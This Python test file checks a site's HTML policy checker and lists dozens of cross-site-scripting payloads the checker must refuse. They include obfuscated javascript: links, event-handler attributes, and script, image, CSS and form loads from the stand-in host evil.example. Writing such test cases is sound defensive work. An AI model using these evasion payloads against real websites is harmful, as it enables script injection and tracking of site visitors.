"""The policy for built pages (trafiklex.website.sitepolicy), on the tricks that fool a check by pattern:
letter case, entities, spaces and controls inside an address, attributes inside attributes, markup
that a browser reads otherwise than it is written. Fast: no build (the corpus builds the real thing)."""
from __future__ import annotations

from pathlib import Path

import material
import pytest

from trafiklex.website import sitepolicy

THEME = Path(material.__file__).parent / "templates"
SCRIPTS = {"assets/javascripts/cite.js"}
MD_SCOPE = ('__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
            '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t='
            'localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}')


def _check(body: str) -> list[str]:
    page = f"<!doctype html><html><head><title>t</title></head><body>\n{body}\n</body></html>"
    return [what for line, what in sitepolicy.check_page(page, "en/page.html", SCRIPTS, THEME)]


ALLOWED = [
    f"<script>{MD_SCOPE}</script>",
    '<script src="../assets/javascripts/cite.js"></script>',
    '<script src="../assets/javascripts/bundle.a5f9d56c.min.js"></script>',
    '<script id="__config" type="application/json">{"base": ".."}</script>',
    '<a href="https://example.org/law">x</a> <a href="mailto:office@example.org">m</a> <a href="#art_1">#</a>',
    '<a href="../nrm-agreement.html#art_5__A__4">x</a>',
    '<link rel="canonical" href="http://localhost:8000/en/page.html">',
    '<link rel="stylesheet" href="../assets/stylesheets/site.css">',
    '<svg viewBox="0 0 10 10"><rect fill="url(#g)" width="10" height="10"/></svg>',
    '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">',
    '<input type="radio" name="q_1" value="yes"> <form name="search"><input name="query"></form>',
]

REFUSED = [
    ("<script>alert(1)</script>", "inline script that is not the theme's"),
    (f"<script>{MD_SCOPE};alert(1)</script>", "inline script that is not the theme's"),
    (f"<SCRIPT>{MD_SCOPE}</SCRIPT><ScRiPt >alert(1)</sCrIpT>", "inline script that is not the theme's"),
    ("<script data-x='src=x.js'>alert(1)</script>", "inline script that is not the theme's"),
    ("<svg><script>alert(1)</script></svg>", "inline script that is not the theme's"),
    ('<svg><script href="../assets/javascripts/cite.js"></script></svg>', "a script loaded by href="),
    ("<!-- <script>alert(1)</script> -->", "'<script' written 1 times where the page has 0 scripts"),
    ('<script type="module">import("x")</script>', 'a <script type="module">'),
    ('<script type="importmap">{"imports": {}}</script>', 'a <script type="importmap">'),
    ('<script type="speculationrules">{"prefetch": []}</script>', 'a <script type="speculationrules">'),
    ('<script src="https://evil.example/x.js"></script>', "not the theme's or the site's own"),
    ('<script src="//evil.example/x.js"></script>', "not the theme's or the site's own"),
    ('<script src="../assets/javascripts/planted.js"></script>', "not the theme's or the site's own"),
    ('<script src="../../../etc/x.js"></script>', "not the theme's or the site's own"),
    ("<img src=x onerror=alert(1)//>", "an event-handler attribute onerror"),
    ('<body onload="alert(1)">', "an event-handler attribute onload"),
    ('<details open ONTOGGLE="alert(1)">', "an event-handler attribute ontoggle"),
    ('<a href="javascript:alert(1)">x</a>', "a link to a javascript: address"),
    ('<a HREF="JAVASCRIPT:alert(1)">x</a>', "a link to a javascript: address"),
    ('<a href="javascript:alert(1)" href="#safe">x</a>', "a link to a javascript: address"),
    ('<a href="&#106;avascript&#x3a;alert(1)">x</a>', "a link to a javascript: address"),
    ('<a href=" java\tscr\nipt:alert(1)">x</a>', "a link to a javascript: address"),
    ('<a href="\x01javascript:alert(1)">x</a>', "a link to a javascript: address"),
    ('<a href="vbscript:msgbox(1)">x</a>', "a link to a vbscript: address"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "a link to a data: address"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "a link to a javascript: address"),
    ('<math href="javascript:alert(1)">x</math>', "loads from a javascript: address"),
    ('<form><button formaction="javascript:alert(1)">x</button></form>', "loads from a javascript: address"),
    ('<form action="https://evil.example/">x</form>', "loads from a https: address"),
    ('<img src="https://evil.example/pixel.gif">', "loads from a https: address"),
    ('<img src="\\\\evil.example/pixel.gif">', "loads from another host"),
    ('<img srcset="a.png 1x, //evil.example/b.png 2x">', "loads from another host"),
    ('<input type="image" src="//evil.example/x.png">', "loads from another host"),
    ('<video poster="https://evil.example/p.png"></video>', "loads from a https: address"),
    ('<audio src="data:audio/wav;base64,AAAA"></audio>', "loads from a data: address"),
    ('<svg><use href="//evil.example/sprite.svg#i"/></svg>', "loads from another host"),
    ('<a ping="https://evil.example/track" href="#x">x</a>', "loads from a https: address"),
    ('<img src="../../../../x.png">', "loads from outside the site"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "a <iframe> element"),
    ('<object data="x.swf"></object>', "a <object> element"),
    ('<embed src="x.swf">', "a <embed> element"),
    ('<base href="https://evil.example/">', "a <base> element"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<meta http-equiv="refresh">'),
    ('<meta HTTP-EQUIV=" Refresh " content="0;javascript:alert(1)">', "(only the Content-Security-Policy"),
    ('<meta http-equiv="Set-Cookie" content="a=b">', '<meta http-equiv="Set-Cookie">'),
    ('<link rel="preload" href="//evil.example/x.js" as="script">', 'link rel="preload"'),
    ('<link rel="dns-prefetch" href="//evil.example">', 'link rel="dns-prefetch"'),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "loads from a https: address"),
    ('<link rel="ICON" href="//evil.example/x.ico">', "loads from another host"),
    ('<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', "changes an address"),
    ('<svg><animate attributeName="xlink:href" values="javascript:alert(1)"/></svg>', "a <animate> element"),
    ('<p style="background:url(//evil.example/x.png)">x</p>', "a style attribute that loads or runs something"),
    ("<style>@import url(https://evil.example/x.css);</style>", "a <style> element that loads or runs something"),
]


@pytest.mark.parametrize("body", ALLOWED)
def test_what_the_site_itself_uses_is_allowed(body):
    assert _check(body) == []


@pytest.mark.parametrize("body,says", REFUSED, ids=[b for b, _ in REFUSED])
def test_what_could_run_a_script_or_reach_another_host_is_refused(body, says):
    found = _check(body)
    assert any(says in what for what in found), found


def test_a_style_sheet_that_loads_from_another_host_is_refused():
    found = sitepolicy.check_stylesheet('a{background:url("data:image/svg+xml;x")}\n'
                                        "b{background:url(https://evil.example/x.png)}\n@import '//evil.example/y.css';")
    assert [line for line, _ in found] == [2, 3]
